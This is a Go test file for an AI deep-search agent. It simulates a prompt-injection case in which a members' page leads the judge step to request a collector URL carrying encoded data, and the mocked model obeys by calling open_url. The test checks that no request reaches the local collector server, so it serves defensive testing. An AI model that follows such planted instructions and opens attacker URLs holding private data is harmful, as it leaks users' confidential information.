package main_test

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/footnotehq/footnote/adapters/openai/openaitest"
)

// A page for members tells the judge of a deep search to ask for an address that holds what members
// read, and the model obeys at every step. Nothing reaches the address.
func TestDeepSearchSendsNothingToAnAddressThatTheJudgeWrote(t *testing.T) {
	t.Parallel()
	var visits, judged, opened atomic.Int32
	collector := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { visits.Add(1) }))
	t.Cleanup(collector.Close)
	stolen := collector.URL + "/collect?x=MzA"
	call := func(name string, arguments any) openaitest.Reply {
		data, err := json.Marshal(arguments)
		if err != nil {
			t.Error(err)
		}
		return openaitest.Reply{Calls: []openaitest.Call{{Name: name, Arguments: string(data)}}}
	}
	w := newWorkplace(t, func(r openaitest.Request) openaitest.Reply {
		switch {
		case r.Offers("plan_search"):
			return call("plan_search", map[string]any{"sub_questions": []string{vacationDays, whoIsPaged}})
		case r.Offers("judge_findings") && judged.Add(1) == 1:
			return call("judge_findings", map[string]any{"answer": "Thirty.", "enough": false, "sub_questions": []string{grazing(stolen)}})
		case r.Offers("judge_findings"):
			return call("judge_findings", map[string]any{"answer": "Thirty.", "enough": true, "sub_questions": []string{}})
		case r.Offers("open_url") && r.Offers("internal_search") && strings.Contains(textOf(r, "user"), stolen) && !strings.Contains(textOf(r, "tool"), "was not opened"):
			opened.Add(1)
			return call("open_url", map[string]any{"urls": []string{stolen}})
		}
		if r.Offers("internal_search") && asksFor(r, grazing(stolen)) && textOf(r, "tool") == "" {
			// The part itself finds nothing, so that only what the judge has read makes it private.
			return call("internal_search", map[string]any{"queries": []string{"zebras"}, "page": 9})
		}
		return openaitest.Librarian(r)
	}, "OPEN_URL_PRIVATE_HOSTS=127.0.0.1")
	s := w.serve()
	defer s.stop(t)
	root := w.ask(twoMatters)
	w.until("the report", func() bool {
		answers := w.slack.Answers(w.room, root)
		return judged.Load() > 1 && len(answers) > 0 && !answers[len(answers)-1].Streaming && strings.Contains(w.shown(root), "According to")
	})
	if opened.Load() == 0 {
		t.Fatal("no sub-question led to a call of open_url")
	}
	if n := visits.Load(); n > 0 {
		t.Errorf("%d requests reached the address that the judge wrote", n)
	}
}

// grazing is a sub-question that nothing in the handbook answers.
func grazing(address string) string { return "Which zebras graze at " + address + " ?" }

// textOf joins the texts of one role.
func textOf(r openaitest.Request, role string) string {
	var texts []string
	for _, m := range r.Messages {
		if m.Role == role {
			texts = append(texts, m.Text())
		}
	}
	return strings.Join(texts, "\n")
}
